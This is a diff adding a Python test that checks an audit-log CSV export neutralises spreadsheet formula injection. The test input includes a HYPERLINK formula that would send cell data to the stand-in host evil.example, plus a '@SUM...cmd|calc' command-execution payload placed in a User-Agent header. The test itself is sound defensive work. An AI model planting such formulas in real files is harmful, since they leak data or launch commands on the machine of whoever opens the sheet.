@@ -262,3 +262,38 @@ async def test_exporting_without_permission_is_forbidden(
 
     assert errors[0]["extensions"]["code"] == "FORBIDDEN"
     assert await audit_entries(services, action="audit.export") == []
+
+
+async def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run(
+    gql: GraphQLClient, services: Services
+) -> None:
+    """A staff member's reason and User-Agent are their own text: opened in a spreadsheet,
+    `=HYPERLINK(...)` must stay text, as it does in the account export."""
+    admin = await make_staff(gql, services, "boss", "ADMIN")
+    user = await sign_up(gql, "newhire")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    grant = {"i": {"accountId": user.id, "role": "SUPPORT", "reason": formula}}
+    await gql.http.post(
+        "/graphql",
+        json={"query": GRANT, "variables": grant},
+        headers={"authorization": f"Bearer {admin.token}", "user-agent": "@SUM(1+1)*cmd|calc"},
+    )
+
+    data = await gql.execute(
+        EXPORT, {"input": {"format": "CSV", "reason": "for the lawyers"}}, token=admin.token
+    )
+    lines = await gql.execute(
+        EXPORT, {"input": {"format": "JSON_LINES", "reason": "for the lawyers"}}, token=admin.token
+    )
+
+    [row] = [
+        r
+        for r in csv.DictReader(io.StringIO(data["exportAuditLog"]["data"]))
+        if r["action"] == "role.grant" and r["actor_handle"] == "boss"
+    ]
+    assert (row["reason"], row["user_agent"]) == ("'" + formula, "'@SUM(1+1)*cmd|calc")
+    # JSON lines stay exactly what the chain hashes.
+    grants = [json.loads(line) for line in lines["exportAuditLog"]["data"].splitlines()]
+    assert [
+        g["reason"] for g in grants if g["action"] == "role.grant" and g["actor_handle"] == "boss"
+    ] == [formula]
